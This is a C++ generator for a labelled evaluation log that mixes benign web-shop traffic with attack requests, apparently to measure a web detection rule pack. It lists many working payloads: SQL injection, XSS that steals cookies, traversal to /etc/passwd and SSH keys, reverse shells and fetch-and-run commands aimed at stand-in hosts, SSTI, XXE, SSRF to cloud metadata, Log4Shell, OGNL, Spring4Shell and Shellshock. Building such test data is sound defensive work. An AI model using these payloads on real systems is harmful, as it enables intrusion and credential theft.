// Seeded generator of a labelled evaluation set for the shipped web rules: a
// web shop's access log (combined format) with attack requests of every class
// the rule pack covers mixed into benign traffic, including benign requests
// that look like attacks (searches for "select", O'Brien, Japanese text,
// tracking parameters, URLs in parameters...). Writes DIR/access.log and
// DIR/labels.tsv ("LINE<TAB>CLASS", CLASS "benign" or an attack class).
//
// The payload lists are written from how real attacks look in logs, not from
// the rules' patterns, so the measured recall says something about the rules.
// The classes added after the first sixteen (SSI, LDAP, XPath, CRLF, NoSQL,
// deserialization) and their benign look-alikes come from a second generator
// and are interleaved without touching the first one's stream, so for a seed the
// earlier lines are byte-for-byte those of the sixteen-class set.
#include <fmt/format.h>

#include <CLI/CLI.hpp>
#include <algorithm>
#include <cctype>
#include <cstdio>
#include <functional>
#include <random>
#include <string>
#include <vector>

#include "ingest/time/civil.h"

namespace {

using namespace std::string_literals;
using Rng = std::mt19937_64;
using List = std::vector<std::string>;

const List kBrowsers = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SH-M26) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/123.0.6312.99 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.92",
};

// Clients a shop sees that are not people: crawlers, monitors, apps, scripts.
const List kBenignBots = {
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
    "Wget/1.21.3",
    "ShopApp/3.2.1 (iPhone; iOS 17.4; Scale/3.00)",
    "PostmanRuntime/7.37.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
};

// What attack tools put in User-Agent (as their docs and captures show).
const List kToolAgents = {
    "sqlmap/1.8.3#stable (https://sqlmap.org)",
    "sqlmap/1.5.2#dev (http://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:003175)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/87.0.4280.88 Safari/537.36 Nuclei - Open-source project "
    "(github.com/projectdiscovery/nuclei)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.6",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Fuzz Faster U Fool v2.1.0-dev",
    "feroxbuster/2.10.2",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/4.0 (Hydra)",
    "Wfuzz/3.1.0",
    "commix/v3.9-stable (https://commixproject.com)",
    "Mozilla/5.0 (compatible; Netsparker)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/110.0.0.0 Safari/537.36 Acunetix",
    "WhatWeb/0.5.5",
    "Mozilla/5.0 (compatible; Havij)",
};

class Gen {
 public:
  explicit Gen(uint64_t seed) : rng_(seed) {}

  double uniform() { return std::uniform_real_distribution<double>(0, 1)(rng_); }
  uint64_t pick(uint64_t n) { return rng_() % n; }
  const std::string& any(const List& l) { return l[pick(l.size())]; }
  bool chance(double p) { return uniform() < p; }

  std::string token(int n, std::string_view alphabet) {
    std::string s;
    for (int i = 0; i < n; ++i) s += alphabet[pick(alphabet.size())];
    return s;
  }
  std::string alnum(int n) {
    return token(n, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789");
  }
  std::string ip() {
    return fmt::format("{}.{}.{}.{}", 11 + pick(180), pick(256), pick(256), 1 + pick(254));
  }
  std::string random_case(std::string_view s) {
    std::string out(s);
    for (char& c : out) {
      if (std::isalpha(static_cast<unsigned char>(c)) && chance(0.5))
        c = static_cast<char>(std::isupper(static_cast<unsigned char>(c)) ? std::tolower(c)
                                                                          : std::toupper(c));
    }
    return out;
  }

 private:
  Rng rng_;
};

// ---- encodings ------------------------------------------------------------

bool unreserved(unsigned char c) {
  return std::isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~';
}

// What a request line needs at least: no spaces, quotes, controls, '#', and
// no '&' / '%' that would change the parameter structure.
std::string enc_minimal(std::string_view s, bool plus_for_space) {
  std::string out;
  for (unsigned char c : s) {
    if (c == ' ') {
      out += plus_for_space ? "+" : "%20";
    } else if (c <= 0x20 || c >= 0x7f || c == '"' || c == '#' || c == '&' || c == '%' || c == '+' ||
               c == '\\') {
      out += fmt::format("%{:02X}", c);
    } else {
      out += static_cast<char>(c);
    }
  }
  return out;
}

std::string enc_full(std::string_view s, bool lower_hex) {
  std::string out;
  for (unsigned char c : s) {
    if (unreserved(c)) {
      out += static_cast<char>(c);
    } else {
      out += lower_hex ? fmt::format("%{:02x}", c) : fmt::format("%{:02X}", c);
    }
  }
  return out;
}

std::string enc_double(std::string_view s) {
  std::string out;
  for (unsigned char c : s) out += unreserved(c) ? std::string(1, c) : fmt::format("%25{:02X}", c);
  return out;
}

std::string enc_iis(std::string_view s) {
  std::string out;
  for (unsigned char c : s) out += unreserved(c) ? std::string(1, c) : fmt::format("%u00{:02X}", c);
  return out;
}

// Encodes a payload for a query value in one of the ways tools and browsers do.
std::string encode_value(Gen& g, std::string_view s, bool allow_iis = true) {
  const double r = g.uniform();
  if (r < 0.35) return enc_minimal(s, g.chance(0.5));
  if (r < 0.75) return enc_full(s, g.chance(0.5));
  if (r < 0.90 || !allow_iis) return enc_double(s);
  return enc_iis(s);
}

// Replaces every occurrence of `from` in s.
std::string replace_all(std::string s, std::string_view from, std::string_view to) {
  for (size_t at = s.find(from); at != std::string::npos; at = s.find(from, at + to.size()))
    s.replace(at, from.size(), to);
  return s;
}

// ---- requests ---------------------------------------------------------------

struct Request {
  std::string method = "GET", target, referer = "-", agent;
  int status = 200;
  int64_t bytes = 0;
};

const List kCategories = {"shoes", "bags",   "watches", "kitchen", "books",
                          "toys",  "garden", "outdoor", "beauty",  "sale"};

// Puts `name=value` among ordinary parameters of a shop page, at a random place.
std::string with_param(Gen& g, const std::string& path, const std::string& name,
                       const std::string& value) {
  List params = {fmt::format("{}={}", name, value)};
  const List extra = {"page=2",
                      "sort=price",
                      "lang=ja",
                      "ref=top",
                      "cat=" + g.any(kCategories),
                      "utm_source=mail",
                      fmt::format("id={}", 1 + g.pick(5000))};
  const int n = static_cast<int>(g.pick(3));
  for (int i = 0; i < n; ++i) {
    const std::string& p = g.any(extra);
    params.insert(params.begin() + static_cast<long>(g.pick(params.size() + 1)), p);
  }
  std::string q;
  for (const std::string& p : params) q += (q.empty() ? "" : "&") + p;
  return path + "?" + q;
}

const List kPages = {"/item.php", "/products/view",   "/index.php",
                     "/search",   "/category.php",    "/api/v1/products",
                     "/news.php", "/shop/detail.php", "/"};

std::string agent_for_attack(Gen& g) {
  return g.chance(0.45) ? g.any(kToolAgents) : g.any(kBrowsers);
}

// ---- attack classes -----------------------------------------------------------

const List kSqli = {
    "1' OR '1'='1",
    "1' or 1=1-- -",
    "' OR 1=1#",
    "admin'--",
    "1 AND 8842=8842",
    "1 AND 3517=9021",
    "1' AND 'xYzA'='xYzA",
    "-1 UNION SELECT 1,2,3-- -",
    "1' UNION ALL SELECT NULL,NULL,NULL-- -",
    "-7 union select 1,group_concat(table_name),3 from information_schema.tables where "
    "table_schema=database()--",
    "1 AND (SELECT 5301 FROM (SELECT(SLEEP(5)))aBcD)",
    "1' AND SLEEP(5) AND 'a'='a",
    "1;WAITFOR DELAY '0:0:5'--",
    "1'; SELECT pg_sleep(5)--",
    "1 AND 1=BENCHMARK(5000000,MD5(1))",
    "1 AND EXTRACTVALUE(3021,CONCAT(0x5c,0x7176627671,(SELECT (ELT(3021=3021,1))),0x716a6a7a71))",
    "1 AND UPDATEXML(1,CONCAT(0x7e,(SELECT @@version),0x7e),1)",
    "1 AND 4523=CONVERT(INT,(SELECT CHAR(113)+CHAR(120)+CHAR(118)+CHAR(112)+CHAR(113)))",
    "1'; DROP TABLE users--",
    "1; EXEC xp_cmdshell('whoami')--",
    "1' ORDER BY 10-- -",
    "1) AND (1=1",
    "') or ('a'='a",
    "\" or \"\"=\"",
    "1 OR 1=1",
    "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM "
    "information_schema.tables GROUP BY x)a)--",
    "1 RLIKE (SELECT (CASE WHEN (7071=7071) THEN 1 ELSE 0x28 END))",
    "1' UNION SELECT username,password FROM users--",
    "1 UNION SELECT @@version,2",
    "x' AND 1=(SELECT 1 FROM pg_sleep(5))--",
    "1' || (SELECT version()) || '",
    "1 and 1=2 union select 1,load_file('/etc/passwd'),3",
    "1' AND 1=CAST((SELECT version()) AS int)--",
    "1;select * from users",
    "1' AND IF(1=1,SLEEP(5),0)--",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "-1' UniOn SeLeCt 1,2,3#",
    "1%' AND 2=2 AND '%'='",
    "1' AND MAKE_SET(5=5,4242)-- ",
    "1 GROUP BY 1,2,3--",
    "1' and substring(@@version,1,1)=5--",
    "' or ''='",
    "1' or 'x'='x",
    "1 or true--",
    "1 AND 7755=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5)",
    "1' AND 1=(SELECT COUNT(*) FROM sysobjects)--",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1' AND GTID_SUBSET(CONCAT(0x71,(SELECT USER())),1)-- x",
    "1'||(SELECT CHR(70)||CHR(79) FROM DUAL)||'",
};

Request sqli(Gen& g) {
  std::string p = g.any(kSqli);
  const double r = g.uniform();
  if (r < 0.2)
    p = replace_all(p, " ", "/**/");
  else if (r < 0.3)
    p = replace_all(p, " ", g.chance(0.5) ? "\t" : "\n");
  else if (r < 0.45)
    p = g.random_case(p);
  const List names = {"id",   "item",  "cat",  "product_id", "page", "q",
                      "user", "order", "sort", "pid",        "uid",  "search"};
  Request q;
  q.target = with_param(g, g.any(kPages), g.any(names), encode_value(g, p));
  q.agent = agent_for_attack(g);
  q.status = g.chance(0.7) ? 200 : 500;
  return q;
}

const List kXss = {
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg onload=prompt(document.domain)>",
    "<body onload=alert('xss')>",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(document.cookie)",
    "'\"><img src=x onerror=confirm(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<marquee onstart=alert(1)>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<embed src=javascript:alert(1)>",
    "<img src=x onerror=fetch('//evil.example/'+document.cookie)>",
    "<div onpointerover=alert(1)>MOVE</div>",
    "\";alert(1);//",
    "';alert(String.fromCharCode(88,83,83))//",
    "<script src=//evil.example/x.js></script>",
    "<img src=\"x\" onerror=\"document.location='http://evil.example/c?'+document.cookie\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "data:text/html,<script>alert(1)</script>",
    "<x onclick=alert(1)>click",
    "<svg><script>alert&#40;1&#41;</script>",
    "<body onpageshow=alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">",
    "<math><brute href=javascript:alert(1)>click",
    "<isindex action=javascript:alert(1) type=image>",
    "\"-confirm`1`-\"",
    "<img src=x:x onerror=window.onerror=alert;throw 1>",
};

// Some attackers encode markup as HTML character references.
std::string html_entities(Gen& g, std::string_view s) {
  std::string out;
  for (char c : s) {
    if (c == '<' || c == '>' || c == '"' || c == '\'' || c == '(' || c == ')') {
      const double r = g.uniform();
      out += r < 0.4   ? fmt::format("&#{};", static_cast<int>(c))
             : r < 0.8 ? fmt::format("&#x{:x};", static_cast<int>(c))
                       : fmt::format("&#{:07}", static_cast<int>(c));
    } else {
      out += c;
    }
  }
  return out;
}

Request xss(Gen& g) {
  std::string p = g.any(kXss);
  if (g.chance(0.2)) p = g.random_case(p);
  if (g.chance(0.1)) p = html_entities(g, p);
  if (g.chance(0.05)) p = replace_all(replace_all(p, "<", "\\u003c"), ">", "\\x3e");
  const List names = {"q",       "search", "name",  "keyword",  "redirect", "msg",
                      "comment", "title",  "error", "callback", "lang",     "s"};
  Request q;
  if (g.chance(0.08)) {
    q.target = "/search/" + enc_full(p, false);  // path parameter reflected in the page
    q.status = 404;
  } else {
    q.target = with_param(g, g.any(kPages), g.any(names), encode_value(g, p));
  }
  q.agent = agent_for_attack(g);
  if (g.chance(0.05)) q.referer = p;  // reflected Referer
  return q;
}

const List kTraversal = {
    "../../../../etc/passwd",
    "../../../../../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd\x00"s,
    "../../../../../../etc/shadow",
    "../../../proc/self/environ",
    "../../../../boot.ini",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "PHP://filter/convert.base64-encode/resource=../wp-config.php",
    "php://input",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "expect://id",
    "zip://uploads/avatar.jpg#shell.php",
    "phar://uploads/image.jpg/test.txt",
    "../../../../../../windows/system32/drivers/etc/hosts",
    "../../../../var/log/apache2/access.log",
    "..;/..;/WEB-INF/web.xml",
    "../../../../../etc/passwd\x00.jpg"s,
    "/proc/self/cmdline",
    "C:\\Windows\\win.ini",
    "../../../../../../../root/.ssh/id_rsa",
    "..%2F..%2F..%2F..%2Fetc%2Fhosts",
    "../config/database.yml",
    "/../../../../../../../../etc/group",
};

// Path encodings seen in traversal attempts.
std::string traversal_encode(Gen& g, const std::string& p) {
  const double r = g.uniform();
  if (r < 0.3) return enc_minimal(p, false);
  if (r < 0.5) return enc_full(p, g.chance(0.5));
  if (r < 0.6) return enc_double(p);
  if (r < 0.7)
    return replace_all(replace_all(enc_minimal(p, false), "../", "..%c0%af"), "..%5C", "..%c1%9c");
  if (r < 0.8) return replace_all(enc_minimal(p, false), "../", "%c0%ae%c0%ae/");
  if (r < 0.9) return replace_all(enc_minimal(p, false), "../", "%2e%2e%2f");
  return enc_iis(p);
}

Request traversal(Gen& g) {
  const std::string p = g.any(kTraversal);
  Request q;
  const double r = g.uniform();
  if (r < 0.15 && p.starts_with("..") && p.find(':') == std::string::npos) {
    const List bases = {"/static/", "/cgi-bin/", "/images/", "/assets/", "/download/"};
    std::string path = p;
    if (g.chance(0.5)) path = replace_all(path, "../", ".%2e/");
    q.target = g.any(bases) + enc_minimal(path, false);
    q.status = 400;
  } else {
    const List names = {"file", "page", "path",     "include", "template", "lang",     "doc",
                        "img",  "view", "filename", "load",    "dl",       "document", "style"};
    const List pages = {"/index.php", "/download.php", "/view.php", "/image.php",
                        "/page.php",  "/include.php",  "/show.php", "/"};
    q.target = with_param(g, g.any(pages), g.any(names), traversal_encode(g, p));
  }
  q.agent = agent_for_attack(g);
  return q;
}

const List kRfiUrls = {
    "http://203.0.113.66/shell.txt?",   "https://evil.example/c99.txt",
    "http://198.51.100.9/r57.txt\x00"s, "ftp://203.0.113.66/pub/x.php",
    "http://evil.example/id.txt??",     "hTTp://203.0.113.66/inc.txt?",
    "http://203.0.113.66/bot.php?",     "http://198.51.100.23/x.txt",
    "https://raw.evil.example/ph.txt?", "http://192.0.2.77/shell.gif?",
    "http://evil.example/test.txt%00",  "https://203.0.113.66/?",
};

Request rfi(Gen& g) {
  const List names = {"page",
                      "file",
                      "include",
                      "inc",
                      "path",
                      "template",
                      "mosConfig_absolute_path",
                      "GLOBALS[config_root]",
                      "lang",
                      "module",
                      "dir",
                      "load",
                      "conf"};
  Request q;
  q.target = with_param(g, g.any(kPages), g.any(names), encode_value(g, g.any(kRfiUrls), false));
  q.agent = agent_for_attack(g);
  return q;
}

const List kCmdi = {
    "127.0.0.1; id",
    "127.0.0.1|whoami",
    "8.8.8.8 && cat /etc/passwd",
    "`id`",
    "$(whoami)",
    ";uname -a;",
    "| nc 203.0.113.66 4444 -e /bin/sh",
    ";wget http://203.0.113.66/x.sh -O /tmp/x.sh;sh /tmp/x.sh",
    "|curl -s http://203.0.113.66/s|sh",
    "127.0.0.1\nid",
    ";cat${IFS}/etc/passwd",
    "$(sleep 5)",
    "||ping -c 10 127.0.0.1||",
    "& ping -n 10 127.0.0.1 &",
    ";bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
    "x;echo${IFS}vulnerable",
    "|cat /etc/passwd",
    "; ls -la /",
    "`cat /etc/passwd`",
    "$(curl http://203.0.113.66/$(whoami))",
    ";{cat,/etc/passwd}",
    ";/\?\?\?/\?\?t /\?\?\?/\?\?ss\?\?",
    "|| powershell -enc SQBFAFgA",
    "& cmd /c whoami",
    "; python3 -c 'import os;os.system(\"id\")'",
    ";busybox wget http://203.0.113.66/mips -O- > /tmp/m",
    "a|id",
    "google.com;ls",
    "1;sleep 10",
    "x\n/bin/bash -c 'id'",
};

Request cmdi(Gen& g) {
  const List names = {"ip",   "host",   "target", "domain", "ping", "addr",
                      "name", "server", "email",  "to",     "file", "dns"};
  const List pages = {"/tools/ping.php", "/diag.php",  "/cgi-bin/admin.cgi", "/admin/network",
                      "/api/check",      "/index.php", "/setup.cgi"};
  Request q;
  q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, g.any(kCmdi)));
  q.agent = agent_for_attack(g);
  return q;
}

const List kSsti = {
    "{{7*7}}",
    "{{7*'7'}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "*{7*7}",
    "{{config}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{% import os %}{{ os.popen('id').read() }}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{php}echo `id`;{/php}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "{{lipsum.__globals__.os.popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "${{7*7}}",
    "{{ 7 * 7 }}",
    "[[${7*7}]]",
    "{{1337*1337}}",
    "${{<%[%'\"}}%\\.",
    "{{range.constructor(\"return global.process.mainModule.require('child_process')."
    "execSync('id')\")()}}",
};

Request ssti(Gen& g) {
  const List names = {"name", "q", "template", "greeting", "msg", "email", "title", "preview"};
  Request q;
  q.target = with_param(g, g.any(kPages), g.any(names), encode_value(g, g.any(kSsti)));
  q.agent = agent_for_attack(g);
  return q;
}

const List kXxe = {
    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
    "<foo>&xxe;</foo>",
    "<!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://203.0.113.66/evil.dtd\"> %ext;]><r/>",
    "<?xml version=\"1.0\"?><!DOCTYPE test SYSTEM \"http://evil.example/x.dtd\"><test/>",
    "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" "
    "href=\"file:///etc/passwd\"/></foo>",
    "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]>"
    "<lolz>&lol2;</lolz>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE data [<!ENTITY file SYSTEM "
    "\"php://filter/convert.base64-encode/resource=index.php\">]><data>&file;</data>",
    "<!DOCTYPE x [ <!ENTITY % a SYSTEM \"https://oob.evil.example/?%25data;\"> %a; ]>",
    "<?xml version=\"1.0\"?><!DOCTYPE root PUBLIC \"-//A//B//EN\" "
    "\"http://203.0.113.66/p.dtd\"><root/>",
};

Request xxe(Gen& g) {
  const List names = {"xml", "data", "payload", "body", "request", "feed", "soap"};
  const List pages = {"/api/xml",        "/xmlrpc/import", "/soap/service",
                      "/upload/xml.php", "/feed/import",   "/index.php"};
  Request q;
  q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, g.any(kXxe)));
  q.agent = agent_for_attack(g);
  q.method = g.chance(0.3) ? "POST" : "GET";
  return q;
}

const List kSsrf = {
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://100.100.100.200/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20x%201",
    "dict://127.0.0.1:11211/stat",
    "http://127.0.0.1:8080/manager/html",
    "http://localhost:2375/containers/json",
    "http://169.254.170.2/v2/credentials",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://instance-data/latest/meta-data/",
    "http://metadata/computeMetadata/v1/",
    "file://localhost/etc/shadow",
    "http://[::1]:22/",
};

Request ssrf(Gen& g) {
  const List names = {"url", "image_url", "webhook", "callback", "feed",       "src",    "dest",
                      "uri", "proxy",     "fetch",   "link",     "avatar_url", "target", "u"};
  const List pages = {"/api/fetch",      "/proxy.php", "/image/resize", "/preview",
                      "/api/v1/webhook", "/share",     "/index.php"};
  Request q;
  if (g.chance(0.06)) {
    q.target = "http://169.254.169.254/latest/meta-data/";  // absolute-form: proxy abuse
    q.status = 400;
  } else {
    q.target = with_param(g, g.any(pages), g.any(names), encode_value(g, g.any(kSsrf)));
  }
  q.agent = agent_for_attack(g);
  return q;
}

const List kJndi = {
    "${jndi:ldap://203.0.113.66:1389/a}",
    "${jndi:rmi://203.0.113.66:1099/Exploit}",
    "${jndi:dns://203.0.113.66/x}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.66/poc}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/o}",
    "${${upper:j}ndi:ldaps://evil.example/x}",
    "${j${k8s:k5:-ND}i:ldap://evil.example/k}",
    "${jndi:ldap://${env:USER}.c8s3t2.evil.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/d}",
    "${jn${lower:d}i:l${lower:d}ap://evil.example/z}",
    "${jndi:ldap://${hostName}.${sys:java.version}.dnslog.example/}",
    "${${::-J}ndi:ldap://evil.example/u}",
    "${jndi:iiop://203.0.113.66/i}",
};

Request log4shell(Gen& g) {
  const std::string p = g.any(kJndi);
  Request q;
  const double r = g.uniform();
  q.agent = g.any(kBrowsers);
  q.target = g.any(kPages);
  if (r < 0.45) {
    q.agent = p;
  } else if (r < 0.6) {
    q.referer = p;
  } else if (r < 0.9) {
    q.target = with_param(g, g.any(kPages), g.chance(0.5) ? "q" : "x", encode_value(g, p, false));
  } else {
    q.target = "/" + enc_full(p, false);
    q.status = 404;
  }
  return q;
}

const List kOgnl = {
    "/index.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]"
    "{'id'})).start(),%23b%3d%23a.getInputStream()}",
    "/struts2-showcase/${(%23a%3d@java.lang.Runtime@getRuntime().exec('id'))}/actionChain1.action",
    "/login.action?debug=command&expression=%23context%5B%22xwork.MethodAccessor."
    "denyMethodExecution%22%5D%3Dfalse",
    "/$%7B(%23_memberAccess%5B'allowStaticMethodAccess'%5D=true)(%23cmd='id')%7D/index.action",
    "/index.action?method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23res%3d"
    "%40org.apache.struts2.ServletActionContext%40getResponse(),%23w%3d%23res.getWriter()",
    "/user.action?action:%25%7B3*4%7D",
    "/orders/3/edit.action?name=%25%7B(%23_%3D'multipart%2Fform-data').(%23dm%3D%40ognl."
    "OgnlContext%40DEFAULT_MEMBER_ACCESS)%7D",
    "/HelloWorld.action?id=%25%7B%23context%5B'com.opensymphony.xwork2.dispatcher."
    "HttpServletResponse'%5D.getWriter().println(1234)%7D",
};

const char* kOgnlAgent =
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
    "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2."
    "ActionContext.container']))).(#cmd='id')}";

Request ognl(Gen& g) {
  Request q;
  if (g.chance(0.2)) {
    q.target = "/index.action";
    q.agent = kOgnlAgent;
    q.method = "POST";
  } else {
    q.target = g.any(kOgnl);
    q.agent = agent_for_attack(g);
  }
  return q;
}

const List kSpring = {
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if"
    "(%22j%22.equals(request.getParameter(%22pwd%22)))",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
    "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
    "class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar",
    "class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=",
    "class.module.classLoader.DefaultAssertionStatus=nonsense",
    "class.module.classLoader.URLs%5B0%5D=0",
    "class%2Emodule%2EclassLoader%2Eresources%2Econtext%2Eparent%2Epipeline%2Efirst%2Epattern=x",
    "class%5Bmodule%5D%5BclassLoader%5D.resources.context.parent.pipeline.first.suffix=.jsp",
};

Request spring(Gen& g) {
  Request q;
  const List pages = {"/", "/index", "/greeting", "/app/login", "/api/users"};
  q.target = g.any(pages) + "?" + g.any(kSpring);
  q.method = g.chance(0.5) ? "POST" : "GET";
  q.agent = agent_for_attack(g);
  return q;
}

const List kShellshock = {
    "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; /bin/bash -c \"wget http://203.0.113.66/x -O /tmp/x\"",
    "() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id",
    "() { _; } >_[$($())] { echo; id; }",
    "(){:;}; /bin/sleep 20",
    "() { :; }; /bin/ping -c 3 203.0.113.66",
};

Request shellshock(Gen& g) {
  const List cgis = {"/cgi-bin/status",    "/cgi-bin/test.cgi",  "/cgi-bin/bin",
                     "/cgi-mod/index.cgi", "/cgi-bin/admin.cgi", "/"};
  Request q;
  q.target = g.any(cgis);
  const std::string p = g.any(kShellshock);
  if (g.chance(0.7)) {
    q.agent = p;
  } else {
    q.referer = p;
    q.agent = agent_for_attack(g);
  }
  q.status = g.chance(0.6) ? 404 : 200;
  return q;
}

const List kShellPaths = {
    "/wp-content/uploads/2024/03/wso.php",
    "/c99.php",
    "/r57.php",
    "/shell.php?cmd=id",
    "/cmd.php?cmd=whoami",
    "/up.php",
    "/wp-content/plugins/akismet/alfa.php",
    "/b374k.php",
    "/images/x.php?exec=ls%20-la",
